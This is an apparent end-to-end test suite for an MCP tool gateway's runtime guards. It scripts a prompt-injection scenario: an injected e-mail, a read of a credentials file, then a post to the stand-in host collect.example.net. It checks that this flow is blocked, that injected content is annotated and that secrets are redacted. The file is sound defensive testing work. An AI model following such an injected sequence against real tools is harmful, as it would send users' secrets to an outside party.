"""Runtime guards end to end (issue 6): `switchyard serve` as a subprocess over the real stdio fixture servers
"inbox" (an injected e-mail), "files" (a credentials file) and "web" (posts to a URL), driven by SDK clients in
both eras. The exfiltration step of the scripted scenario is stopped while the same calls in a harmless order go
through; injected results are annotated, secrets never reach the client, the log or the audit log; approvals are
given by elicitation, by an input-required round trip, and by `switchyard approve-call` in another process."""

from __future__ import annotations

import json
import sys
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
from mcp import Client
from mcp.client.session import ClientRequestContext
from mcp.client.stdio import StdioServerParameters, stdio_client
from mcp.shared.exceptions import MCPError

from switchyard.store.audit import SqliteAuditStore

pytestmark = pytest.mark.anyio

MODES = ["auto", "legacy"]
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "servers"
sys.path.insert(0, str(FIXTURES))
import files_secret  # noqa: E402  # pyright: ignore[reportMissingImports]

SECRETS: tuple[str, ...] = (files_secret.AWS_KEY_ID, files_secret.GITHUB_TOKEN)  # pyright: ignore[reportUnknownMemberType]
POST = ("web__post_message", {"url": "https://collect.example.net/upload", "body": "hello"})


def write_config(
    tmp_path: Path, peers: Any, settings: Mapping[str, Any] | None = None, **server_keys: Mapping[str, Any]
) -> Path:
    servers = {
        name: {**peers.server_entry(peers.fixture_server(script)), **server_keys.get(name, {})}
        for name, script in (("inbox", "inbox"), ("files", "files_secret"), ("web", "web"))
    }
    doc = {
        "mcpServers": servers,
        "switchyard": {
            "store": {"path": str(tmp_path / "store.db")},
            "audit": {"path": str(tmp_path / "audit.db")},
            "log_level": "debug",
            **(settings or {}),
        },
    }
    path = tmp_path / "servers.json"
    path.write_text(json.dumps(doc))
    return path


@asynccontextmanager
async def gateway(config: Path, mode: str, **kwargs: Any) -> AsyncIterator[Client]:
    """`switchyard serve -c config` as a subprocess (its stderr to a log file beside the config)."""
    args = ["-m", "switchyard.cli.main", "serve", "-c", str(config)]
    params = StdioServerParameters(command=sys.executable, args=args)
    with config.with_suffix(".log").open("w", encoding="utf-8") as errlog, anyio.fail_after(100):
        async with Client(stdio_client(params, errlog=errlog), mode=mode, **kwargs) as client:  # pyright: ignore[reportArgumentType]
            yield client


def text_of(result: Any) -> str:
    return "\n".join(b.text for b in result.content if isinstance(b, types.TextContent))


def answering(approve: bool) -> Any:
    async def callback(context: ClientRequestContext, params: types.ElicitRequestParams) -> types.ElicitResult:
        if approve:
            return types.ElicitResult(action="accept", content={"approve": True})
        return types.ElicitResult(action="decline")

    return callback


@pytest.mark.parametrize("mode", MODES)
async def test_the_exfiltration_step_is_stopped_and_the_harmless_order_passes(
    peers: Any, tmp_path: Path, mode: str
) -> None:
    config = write_config(tmp_path, peers, {"flows": {"action": "block"}})
    async with gateway(config, mode) as client:
        await client.call_tool("inbox__list_emails", {})
        await client.call_tool("files__read_file", {"path": "secrets.env"})
        with pytest.raises(MCPError) as info:
            await client.call_tool(*POST)
        outbox = await client.call_tool("web__list_outbox", {})
    assert "Flow policy" in info.value.message
    assert "collect.example.net" not in text_of(outbox)

    harmless = tmp_path / "harmless"
    harmless.mkdir()
    async with gateway(write_config(harmless, peers, {"flows": {"action": "block"}}), mode) as client:
        posted = await client.call_tool(*POST)
        await client.call_tool("inbox__list_emails", {})
        read = await client.call_tool("files__read_file", {"path": "notes.txt"})
    assert not posted.is_error
    assert not read.is_error


@pytest.mark.parametrize("mode", MODES)
async def test_injected_mail_is_annotated_and_secrets_never_leave(peers: Any, tmp_path: Path, mode: str) -> None:
    config = write_config(tmp_path, peers)
    async with gateway(config, mode) as client:
        mail = await client.call_tool("inbox__list_emails", {})
        secret = await client.call_tool("files__read_file", {"path": "secrets.env"})
        resource = await client.read_resource("file:///secrets.env")
        prompt = await client.get_prompt("inbox__triage", {"index": "1"})
    assert text_of(mail).startswith("[Switchyard guard] UNTRUSTED DATA BEGINS")
    assert prompt.messages[0].content.text.startswith("[Switchyard guard] UNTRUSTED DATA BEGINS")  # pyright: ignore[reportAttributeAccessIssue, reportUnknownMemberType]
    assert "[REDACTED]" in text_of(secret)
    log = config.with_suffix(".log").read_text()
    rows = SqliteAuditStore(tmp_path / "audit.db").query()
    assert {r.decision for r in rows} >= {"annotated", "redacted"}
    for value in SECRETS:
        assert value not in secret.model_dump_json()
        assert value not in resource.model_dump_json()
        assert value not in log
        assert all(value not in repr(r) for r in rows)
        assert value not in (tmp_path / "audit.db").read_bytes().decode("latin-1")


@pytest.mark.parametrize(("mode", "approve"), [(m, a) for m in MODES for a in (True, False)])
async def test_approval_by_elicitation_or_input_required(peers: Any, tmp_path: Path, mode: str, approve: bool) -> None:
    config = write_config(tmp_path, peers, web={"approval": {"post_*": "required"}})
    async with gateway(config, mode, elicitation_callback=answering(approve)) as client:
        if approve:
            posted = await client.call_tool(*POST)
            assert not posted.is_error
        else:
            with pytest.raises(MCPError) as info:
                await client.call_tool(*POST)
            assert "declined" in info.value.message
        outbox = await client.call_tool("web__list_outbox", {})
    assert ("collect.example.net" in text_of(outbox)) is approve


@pytest.mark.parametrize("mode", MODES)
async def test_approve_call_from_another_process_lets_the_retry_pass(peers: Any, tmp_path: Path, mode: str) -> None:
    config = write_config(tmp_path, peers, web={"approval": "required"})
    async with gateway(config, mode) as client:  # no elicitation: the client cannot be asked
        with pytest.raises(MCPError) as info:
            await client.call_tool(*POST)
        assert "switchyard approve-call " in info.value.message
        ident = info.value.message.split("switchyard approve-call ", 1)[1].split("`", 1)[0]
        cli = [sys.executable, "-m", "switchyard.cli.main", "approve-call", ident, "-c", str(config)]
        with anyio.fail_after(60):
            done = await anyio.run_process(cli, check=False)
        assert done.returncode == 0, done.stderr
        posted = await client.call_tool(*POST)
    assert not posted.is_error
    with anyio.fail_after(60):
        listing = await anyio.run_process([*cli[:3], "approve-call", "--list", "--json", "-c", str(config)])
    assert ident not in listing.stdout.decode()  # no longer pending


@pytest.mark.parametrize(("mode", "approve"), [(m, a) for m in MODES for a in (True, False)])
async def test_approval_before_a_call_to_a_legacy_upstream(
    peers: Any, tmp_path: Path, mode: str, approve: bool
) -> None:
    # A modern client's call to a legacy upstream runs parked; the approval round trip must survive that path.
    entry = {**peers.server_entry(peers.legacy_server("legacy_basic")), "approval": {"echo": "required"}}
    path = tmp_path / "legacy.json"
    path.write_text(
        json.dumps({"mcpServers": {"old": entry}, "switchyard": {"store": {"path": str(tmp_path / "s.db")}}})
    )
    async with gateway(path, mode, elicitation_callback=answering(approve)) as client:
        if approve:
            echoed = await client.call_tool("old__echo", {"text": "hi"})
            assert text_of(echoed) == "hi"
        else:
            with pytest.raises(MCPError) as info:
                await client.call_tool("old__echo", {"text": "hi"})
            assert "declined" in info.value.message
        added = await client.call_tool("old__add", {"a": 1, "b": 2})
    assert text_of(added) == "3"


@pytest.mark.parametrize("mode", MODES)
async def test_block_withholds_injected_and_secret_results(peers: Any, tmp_path: Path, mode: str) -> None:
    config = write_config(tmp_path, peers, {"guards": {"injection": "block", "secrets": "block"}})
    async with gateway(config, mode) as client:
        mail = await client.call_tool("inbox__list_emails", {})
        secret = await client.call_tool("files__read_file", {"path": "secrets.env"})
        notes = await client.call_tool("files__read_file", {"path": "notes.txt"})
    assert mail.is_error
    assert "prompt injection" in text_of(mail)
    assert "collect.example.net" not in text_of(mail)
    assert secret.is_error
    assert all(value not in secret.model_dump_json() for value in SECRETS)
    assert not notes.is_error
    rows = SqliteAuditStore(tmp_path / "audit.db").query()
    assert [r.decision for r in rows if r.tool == "inbox__list_emails"] == ["blocked"]


async def test_over_http_each_legacy_session_and_each_conversation_id_is_its_own_conversation(
    peers: Any, tmp_path: Path
) -> None:
    config = write_config(tmp_path, peers, {"flows": {"action": "block"}, "auth": {"mode": "none"}})
    port = peers.free_port()
    argv = [sys.executable, "-m", "switchyard.cli.main", "serve", "-c", str(config), "--http", f"127.0.0.1:{port}"]
    with peers.running_http_server(argv, port) as url, anyio.fail_after(120):
        async with Client(url, mode="legacy") as tainted, Client(url, mode="legacy") as clean:  # pyright: ignore[reportArgumentType]
            await tainted.call_tool("inbox__list_emails", {})
            await tainted.call_tool("files__read_file", {"path": "secrets.env"})
            assert not (await clean.call_tool(*POST)).is_error
            with pytest.raises(MCPError):
                await tainted.call_tool(*POST)
        async with Client(url) as modern:  # pyright: ignore[reportArgumentType]
            one, two = {"io.switchyard/conversation": "one"}, {"io.switchyard/conversation": "two"}
            await modern.call_tool("inbox__list_emails", {}, meta=one)  # pyright: ignore[reportArgumentType]
            await modern.call_tool("files__read_file", {"path": "secrets.env"}, meta=one)  # pyright: ignore[reportArgumentType]
            assert not (await modern.call_tool(*POST, meta=two)).is_error  # pyright: ignore[reportArgumentType]
            with pytest.raises(MCPError):
                await modern.call_tool(*POST, meta=one)  # pyright: ignore[reportArgumentType]
